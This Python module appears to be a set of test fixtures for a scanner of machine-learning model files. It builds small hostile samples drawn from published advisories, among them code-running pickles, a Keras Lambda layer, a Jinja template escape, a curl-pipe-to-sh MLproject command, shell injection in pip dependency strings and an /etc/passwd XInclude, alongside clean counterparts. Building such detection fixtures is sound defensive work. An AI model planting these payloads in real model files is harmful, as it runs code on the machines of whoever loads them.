# SPDX-License-Identifier: Apache-2.0
"""What published advisories on loaders and scanners of models describe, each as the smallest file that does it. `hostile()`
gives {name: (bytes, a word of the message that must be there)}, `clean()` {name: bytes}."""
import base64
import json
import pickle
import struct

from forms import Code, HARMLESS, call, name, stack_global, text, value, whole
from others import CLEAN, archived, field, gguf, graph_def, keras_layer, safetensors, tarred, tensor, torch, varint

START = pickle.PROTO + b"\x04"


def external(**keys):
    """ONNX, with a tensor whose numbers lie in another file."""
    node = field(1, "x") + field(2, "y") + field(3, "node") + field(4, "Relu")
    entries = b"".join(field(13, field(1, key) + field(2, one)) for key, one in keys.items())
    graph = field(1, node) + field(2, "graph") + field(5, field(1, 2) + field(2, 1) + field(8, "w") + entries + field(14, 1))
    return field(1, 8) + field(2, "maker") + field(7, graph) + field(8, field(1, "") + field(2, 17))


def numbers(shape, size):
    """ONNX, with a tensor of floats in so many bytes, its shape once as it was and once packed."""
    node = field(1, "x") + field(2, "y") + field(3, "node") + field(4, "Relu")
    loose = b"".join(field(1, one) for one in shape)
    packed = field(1, b"".join(varint(one) for one in shape))
    tensors = b"".join(field(5, dimensions + field(2, 1) + field(8, "w") + field(9, bytes(size))) for dimensions in (loose, packed))
    return field(1, 8) + field(2, "maker") + field(7, field(1, node) + field(2, "graph") + tensors) + field(8, field(2, 17))


def printing(stream):
    node = field(1, "node") + field(2, "PrintV2") + field(5, field(1, "output_stream") + field(2, field(2, stream)))
    return field(1, node) + field(1, field(1, "other") + field(2, "MatMul"))


def keras_metadata(*layers):
    """keras_metadata.pb: each layer beside the graph of a SavedModel."""
    return b"".join(field(1, field(2, index) + field(3, f"root.layer-{index}") + field(4, "_tf_keras_layer") +
                          field(5, json.dumps(layer))) for index, layer in enumerate(layers))


def keras_objects(layer):
    """The same in the graph's own file, as TensorFlow 2.0 to 2.4 wrote it."""
    user = field(1, "_tf_keras_layer") + field(2, field(1, 1)) + field(3, json.dumps(layer))
    graph = field(1, field(1, "node") + field(2, "MatMul"))
    meta = field(1, field(4, "serve")) + field(2, graph) + field(7, field(1, field(4, user)))
    return field(1, 1) + field(2, meta)


LAMBDA = {"class_name": "Lambda", "config": {"name": "layer", "function": {"class_name": "__tuple__", "items": ["4wEAAAA=", None, None]},
                                             "function_type": "lambda"}}


def unfolding(first, last):
    """A pair of the same pair of the same pair …"""
    links = b"".join((pickle.BINGET + bytes([index])) * 2 + pickle.TUPLE2 + pickle.BINPUT + bytes([index + 1]) + pickle.POP
                     for index in range(60))
    one = value(1) + pickle.BINPUT + b"\0" + pickle.POP
    return START + one + links + first + pickle.BINGET + bytes([60]) + last + pickle.STOP


def numpy(header, numbers=bytes(16)):
    header = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + numbers


def listed(key, kind, values):
    """A setting of GGUF that is a list of numbers of this kind: (its number, struct's letter)."""
    return struct.pack("<Q", len(key)) + key.encode() + struct.pack("<IIQ", 9, kind[0], len(values)) + struct.pack(
        f"<{len(values)}{kind[1]}", *values)


def words(*values):
    key = b"tokenizer.ggml.tokens"
    return struct.pack("<Q", len(key)) + key + struct.pack("<IIQ", 9, 8, len(values)) + b"".join(
        struct.pack("<Q", len(one)) + one.encode() for one in values)


def aligned(kind, letter, number):
    key = b"general.alignment"
    return struct.pack("<Q", len(key)) + key + struct.pack("<I" + letter, kind, number)


def head(*settings):
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(settings)) + b"".join(settings)


def gguf_heads():
    scores, kinds = "tokenizer.ggml.scores", "tokenizer.ggml.token_type"
    return {"narrow": (head(words("a", "b"), listed(kinds, (0, "B"), [1, 1])), "another size"),
            "short": (head(words("a", "b", "c"), listed(scores, (6, "f"), [0.5])), "3 tokens have 1"),
            "mark": (b"GGUF", "ends in its head"), "begin": (b"GGUF\x03\0", "ends in its head"),
            "below": (head(words("<0x00>", "<0x-1>")), "below zero"),
            "alignment": (head(aligned(4, "I", 1 << 30)), "alignment"), "kind": (head(aligned(10, "Q", 32)), "alignment"),
            "type": (gguf([("general.architecture", "x")], [("t", (4,), 70_000, 0)]), "type")}


def served(handler):
    manifest = {"runtime": "python", "model": {"handler": "handler.py", "modelName": "m", "serializedFile": "m.pt"}}
    return archived([("MAR-INF/MANIFEST.json", json.dumps(manifest)), ("handler.py", handler), ("m.pt", torch(CLEAN))])


def checkpoint(**settings):
    return torch(whole({"state_dict": {}, "hyper_parameters": settings}))


def stored(kind, count):
    """The numbers of a tensor beside the pickle: torch() keeps 64 bytes of them."""
    return Code(value(("storage", name("torch", kind), "0", "cpu", count)) + pickle.BINPERSID)


def rebuilt():
    return call(name("torch._utils", "_rebuild_tensor_v2"), None, 0, (2,), (1,), False, {})


def changed(made):
    return START + value(made) + text("key") + value(1) + pickle.SETITEM + pickle.STOP


def hostile_pickles():
    much = 2**31 - 1
    return {
        "cost/array.pkl": (whole(call(name("builtins", "bytearray"), much)), "whatever size"),
        "cost/list.pkl": (whole(call(name("builtins", "list"), call(name("builtins", "range"), much))), "whatever size"),
        "cost/product.pkl": (whole(call(name("operator", "mul"), "a", much)), "whatever size"),
        "cost/old.pkl": (b"cbuiltins\nbytearray\n(L99999999999999999999L\ntR.", "whatever size"),
        "cost/memo.pkl": (b"\x80\x02]r\xff\xff\xff\x7f.", "so large a number"),
        "cost/set.pkl": (unfolding(pickle.EMPTY_SET + pickle.MARK, pickle.ADDITEMS), "so many times"),
        "cost/key.pkl": (unfolding(pickle.EMPTY_DICT, pickle.NONE + pickle.SETITEM), "so many times"),
        "tensor/entry.pkl": (changed(rebuilt()), "CVE-2026-24747"), "tensor/entry.pt": (torch(changed(rebuilt())), "CVE-2026-24747"),
        "tensor/storage.pt": (torch(changed(stored("FloatStorage", 1))), "CVE-2026-24747"),
        "tensor/longer.pt": (torch(whole([stored("DoubleStorage", 9)])), "takes 72 bytes"),
        "tensor/deflated.pt": (archived([("m/data.pkl", whole([stored("HalfStorage", 33)])), ("m/data/0", bytes(64))], 8), "takes 66 bytes"),
        "checkpoint/instantiator.ckpt": (checkpoint(_instantiator="os.system"), "os.system"),
        "checkpoint/target.ckpt": (checkpoint(model={"_target_": "subprocess.run", "args": HARMLESS}), "subprocess.run"),
        "remote/module.pkl": (stack_global("torch.distributed.rpc", "RemoteModule", HARMLESS), "RemoteModule"),
        "remote/class.pkl": (stack_global("torch.distributed.nn", "RemoteModule", HARMLESS), "RemoteModule"),
        "remote/user.pkl": (stack_global("torch.distributed.rpc.internal", "PythonUDF", HARMLESS, ()), "PythonUDF"),
        "import/base64.pkl": (whole({"a": base64.b64encode(b"cos\nsystem\n(Vecho harmless\ntR.").decode()}), "os.system"),
        "import/instance.pkl": (whole({"a": base64.b64encode(b"(Vecho harmless\nios\nsystem\n.").decode()}), "os.system"),
        "behind/method.pkl": (whole(call(name("numpy.core.fromnumeric", "_wrapfunc"), call(name("pathlib", "PosixPath"), "/tmp/none"),
                                         "touch")), "_wrapfunc"),
        "behind/module.pkl": (whole(call(name("numpy._core.fromnumeric", "_wrapfunc"), name("numpy._core._methods", "os"), "system",
                                         HARMLESS)), "_wrapfunc"),
        "behind/partial.pkl": (START + value(call(name("functools", "partial"), name("math", "sqrt"))) +
                               value((name("email", "message_from_file"), (1,), {}, None)) + pickle.BUILD + pickle.STOP,
                               "message_from_file"),
        "behind/handed.pkl": (whole({"a": name("builtins", "globals")}), "globals"),
        "behind/class.pkl": (stack_global("torch.utils.cpp_x", "Popen", HARMLESS), "Popen"),
        "behind/kept.pkl": (whole({"a": name("sklearn.metrics.pairwise", "os")}), "pairwise.os"),
        "behind/import.pkl": (stack_global("pandas._libs.tslibs.timezones", "import_optional_dependency", "antigravity"), "antigravity"),
        "behind/texts.pkl": (whole(call(name("numpy.core.multiarray", "_vec_string"), None, None, "format", ())), "_vec_string"),
        "memo/sign.pkl": (b"Vos\np0\n0Vmath\np+5\n0Vsystem\np1\n0g0\ng1\n\x93(Vecho harmless\ntR.", "os.system"),
        "memo/line.pkl": (b"Vmath\np1\n0Vos\np1_0\n0Vsystem\np2\n0g10\ng2\n\x93(Vecho harmless\ntR.", "os.system"),
        "import/sub.pkl": (stack_global("cloudpickle.cloudpickle", "subimport", "antigravity"), "antigravity"),
        "import/other.pkl": (stack_global("joblib.externals.cloudpickle.cloudpickle", "subimport", "antigravity"), "antigravity"),
        "harmless/print.pkl": (stack_global("builtins", "print", HARMLESS), "print")}


def hostile_documents():
    out = {f"hf/{key}/config.json": ({"model_type": "llama", key: "someone/kernels"}, "someone/kernels") for key in (
        "attn_implementation", "_attn_implementation", "_attn_implementation_internal", "_experts_implementation")}
    out |= {
        "hf/within/config.json": ({"model_type": "llava", "text_config": {"_attn_implementation_internal": "someone/kernels@v1"}}, "kernels"),
        "hf/parts/config.json": ({"model_type": "llava", "_attn_implementation": {"text_config": "paged|someone/kernels"}}, "kernels"),
        "hf/file/config.json": ({"model_type": "llama", "model_file": "model.py"}, "model.py"),
        "hf/trusted/config.json": ({"model_type": "lightglue", "trust_remote_code": True, "keypoint_detector_config": {"model_type": "own"}},
                                   "trust_remote_code"),
        "keras/module/config.json": (keras_layer(units=1, fn_module="subprocess"), "subprocess"),
        "genai/genai_config.json": ({"model": {"decoder": {"session_options": {"custom_ops_library": "/tmp/x.so"}}}}, "/tmp/x.so"),
        "keras/registered/config.json": ({"class_name": "eval", "module": None, "registered_name": "builtins>eval", "config": {}}, "eval"),
        "web/graph/model.json": ({"modelTopology": {"node": [{"name": "x", "op": "ReadFile"}]}}, "ReadFile"),
        "web/paths/model.json": ({"modelTopology": {}, "weightsManifest": [{"paths": ["../../x.bin"], "weights": []}]}, "x.bin"),
        "keras/given/config.json": (keras_layer(fn="get_file", url="http://127.0.0.1/x"), "get_file")}
    out = {key: (json.dumps(one).encode(), word) for key, (one, word) in out.items()}
    java = b"handler: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1/\"]]]]\n"
    return out | {
        "yaml/keras.yaml": (b"class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function_type: lambda\n"
                            b"      function:\n      - 4wEAAAA=\n      - null\n      - null\n", "Lambda"),
        "yaml/tuple.yaml": (b"class_name: Lambda\nconfig:\n  function_type: lambda\n  function: !!python/tuple\n  - 4wEAAAA=\n  - null\n", "Lambda"),
        "yaml/tagged.yaml": (b"a: !own 1\nb:\n  _target_: os.system\n", "os.system"),
        "xml/included.pmml": (b'<?xml version="1.0"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></PMML>',
                              "XInclude"),
        "yaml/template.yaml": (b"chat_template: \"{{ lipsum.__globals__.os.popen('echo harmless') }}\"\n", "lipsum"),
        "yaml/prompt.tmpl": (b"{{ cycler.next.__init__ }}\n", "cycler"),
        "yaml/java/model-config.yaml": (java, "ScriptEngineManager"),
        "mlflow/a/python_env.yaml": (b"dependencies:\n- 'numpy; touch /tmp/none'\n", "touch"),
        "mlflow/b/python_env.yaml": (b"build_dependencies:\n- pip==23 && echo harmless\n", "echo harmless"),
        "mlflow/c/conda.yaml": (b"dependencies:\n- pip:\n  - numpy$(echo harmless)\n", "echo harmless"),
        "mlflow/run/MLproject": (b"entry_points:\n  main:\n    command: 'curl http://127.0.0.1/x | sh'\n", "curl"),
        "mlflow/code/MLmodel": (b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: ../../x.py\n", "x.py"),
        "served/system.mar": (served("import os\ndef handle(data, context):\n  return os.system('echo harmless')\n"), "os.system"),
        "served/run.mar": (served("def handle(data, context):\n  import subprocess as s\n  return s.run(['echo'])\n"), "subprocess.run"),
        "served/import.mar": (served("import os\nos.system('echo harmless')\n"), "os.system"),
        "served/upwards.mar": (archived([("MAR-INF/MANIFEST.json", "{}"), ("../../x.py", "x = 1\n")]), "x.py"),
        "xml/library.xml": (b'<net name="m" version="10"><layers><layer id="0" type="Custom" library="x.so"/></layers></net>', "x.so")}


def hostile():
    target = {"_target_": "builtins.exec", "_args_": ["1"]}
    return hostile_pickles() | hostile_documents() | {
        "keras/metadata/keras_metadata.pb": (keras_metadata({"class_name": "Dense", "config": {"units": 1}}, LAMBDA), "Lambda"),
        "keras/objects/saved_model.pb": (keras_objects(LAMBDA), "Lambda"),
        "keras/turned/saved_model.pb": (keras_objects(LAMBDA)[2:] + field(1, 1), "Lambda"),
        **{f"tf/{one}.pb": (graph_def(one), one) for one in ("ImmutableConst", "CSVDatasetV2", "CreateSummaryFileWriter", "Abort")},
        "tf/print.pb": (printing("file:///tmp/none"), "/tmp/none"),
        "onnx/raw.onnx": (numbers((2, 3), 20), "6 numbers"), "onnx/overflow.onnx": (numbers((1 << 40, 1 << 40), 8), "numbers"),
        "onnx/offset.onnx": (external(location="w.bin", offset="-1", length="8"), "offset"),
        "onnx/length.onnx": (external(location="w.bin", offset="0", length="9" * 30), "length"),
        "onnx/zero.onnx": (external(location="w.bin\0../../x"), "zero"),
        "onnx/attribute.onnx": (external(location="w.bin", __class__="x"), "__class__"),
        "header/json.safetensors": (safetensors({"a": tensor(0, 16), "__metadata__": {"config": json.dumps(target)}}), "exec"),
        "header/python.safetensors": (safetensors({"a": tensor(0, 16), "__metadata__": {"config": str(target)}}), "exec"),
        **{f"gguf/{key}.gguf": one for key, one in gguf_heads().items()},
        "header/target.gguf": (gguf([("general.architecture", "x"), ("x.config", json.dumps(target))]), "exec"),
        "nemo/model.nemo": (tarred("w:gz", **{"model_config.yaml": b"preprocessor:\n  _target_: subprocess.run\n  args: [echo]\n",
                                              "model_weights.ckpt": torch(CLEAN)}), "subprocess.run"),
        "numpy/padding.npz": (archived([("a.npy", b"\x93NUMPY\x01\x00\x39\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(73) +
                                         b"\ncos\nsystem\n(Vecho harmless\ntR.")]), "os.system"),
        "numpy/short.npy": (numpy("{'descr': '<f8', 'fortran_order': False, 'shape': (999999999999,), }"), "shape"),
        "numpy/negative.npy": (numpy("{'descr': '<f8', 'fortran_order': False, 'shape': (-1,), }"), "shape"),
        "numpy/code.npy": (numpy("{'descr': '<f8', 'fortran_order': __import__('os'), 'shape': (2,), }"), "description")}


def clean():
    array = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }"
    pair = (1, 2)
    implementations = {"_attn_implementation": "flash_attention_2", "attn_implementation": "kernels-community/flash-attn3",
                       "_attn_implementation_internal": None, "_experts_implementation": "grouped_mm"}
    return {
        "keras/metadata/keras_metadata.pb": keras_metadata({"class_name": "Dense", "config": {"units": 1, "activation": "relu"}}),
        "keras/objects/saved_model.pb": keras_objects({"class_name": "Dense", "config": {"units": 1}}),
        "web/model.json": b'{"modelTopology": {"node": [{"name": "x", "op": "MatMul"}]}, "weightsManifest": [{"paths": ["group1-shard1of1.bin"]}]}',
        "genai/genai_config.json": b'{"model": {"decoder": {"session_options": {"custom_ops_library": "libops.so"}}}}',
        "xml/included.pmml": b'<?xml version="1.0"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="part.xml"/></PMML>',
        "hf/app.py": b"from huggingface_hub import hf_hub_download\nplace = hf_hub_download('x/y', 'model.safetensors')\n",
        "yaml/tagged.yaml": b"a: !own 1\nb: 'no! tag'\nc:\n  _target_: torch.nn.Linear\n",
        "yaml/keras.yaml": b"class_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config:\n      units: 1\n",
        "keras/module/config.json": json.dumps(keras_layer(units=1, output_shape_module="keras.layers", fn="relu")).encode(),
        "tf/print.pb": printing("stderr"), "onnx/raw.onnx": numbers((2, 3), 24), "onnx/scalar.onnx": numbers((), 4),
        "onnx/empty.onnx": numbers((0, 3), 0), "onnx/beside.onnx": external(location="data/../w.bin", offset="0", length="8", checksum="00"),
        "hf/config.json": json.dumps({"model_type": "llama", **implementations}).encode(),
        "hf/trusted/config.json": b'{"model_type": "llama", "trust_remote_code": true, "rope_scaling": {"factor": 2}}',
        "hf/training.json": b'{"trust_remote_code": true, "learning_rate": 1e-5}',
        "header/target.safetensors": safetensors({"a": tensor(0, 16), "__metadata__": {
            "config": json.dumps({"_target_": "my_package.Net", "activation": {"_target_": "torch.nn.ReLU"}})}}),
        "checkpoint/lightning.ckpt": checkpoint(_instantiator="lightning.pytorch.cli.instantiate_module", _class_path="my_package.Net"),
        "checkpoint/target.ckpt": checkpoint(model={"_target_": "torch.nn.Linear"}),
        "tensor/plain.pt": torch(whole([stored("DoubleStorage", 8), stored("FloatStorage", 3)])),
        "tensor/deflated.pt": archived([("m/data.pkl", whole([stored("HalfStorage", 32)])), ("m/data/0", bytes(64))], 8),
        "cost/small.pkl": whole(call(name("builtins", "bytearray"), 1000)), "cost/range.pkl": whole(call(name("builtins", "range"), 2**31 - 1)),
        "cost/old.pkl": b"cbuiltins\nbytearray\n(I1000\ntR.", "cost/shared.pkl": pickle.dumps([[pair] * 1000] * 1000, 4),
        "cost/words.txt": b"red remarks, over and over.\nrp999999999\n.",
        "import/sub.pkl": stack_global("cloudpickle.cloudpickle", "subimport", "math"),
        "import/partial.pkl": START + value(call(name("functools", "partial"), name("math", "sqrt"))) + value(
            (name("math", "sqrt"), (1,), {}, None)) + pickle.BUILD + pickle.STOP,
        "import/function.pkl": whole({"a": name("builtins", "setattr"), "b": name("functools", "reduce")}),
        "import/method.pkl": whole(call(name("builtins", "getattr"), name("torch.nn", "Linear"), "forward")),
        "import/base64.pkl": whole({"a": base64.b64encode(b"column\nnames (as they are)\nand so on.").decode(),
                                    "b": base64.b64encode(b"(a,\n b).").decode()}),
        "mlflow/MLproject": b"name: x\nentry_points:\n  main:\n    command: 'python train.py'\n",
        "mlflow/python_env.yaml": b"python: 3.10.1\nbuild_dependencies:\n- pip==23.1\n- wheel; python_version < '3.12'\ndependencies:\n- -r requirements.txt\n",
        "gguf/tokens.gguf": head(words("a", "<0x0A>", "<0x->"), listed("tokenizer.ggml.scores", (6, "f"), [0, 1, 2]),
                                 listed("tokenizer.ggml.token_type", (5, "i"), [1, 6, 1]), aligned(4, "I", 64)),
        "hf/file/config.json": b'{"model_type": "llama", "model_file": "model.safetensors"}',
        "text/README.md": b"GGUF files of this model, in several sizes.\n", "text/catboost.txt": b"CBM1 is how models of CatBoost begin.\n",
        "served/plain.mar": served("import torch\nclass Handler:\n  def handle(self, data, context):\n    return torch.relu(data)\n"),
        "numpy/plain.npy": numpy(array % ("<f8", "(2,)")), "numpy/empty.npy": numpy(array % ("<f4", "(0, 3)"), b""),
        "numpy/scalar.npy": numpy(array % ("<f8", "()")), "numpy/text.npy": numpy(array % ("<U2", "(2,)")),
        "numpy/dates.npy": numpy(array % ("<M8[ns]", "(2,)")), "numpy/old.npy": numpy(array % (">i4", "(2L, 2L)")),
        "numpy/record.npy": numpy(array.replace("'%s'", "%s") % ("[('a', '<f8'), ('b', '<i4')]", "(1,)"))}
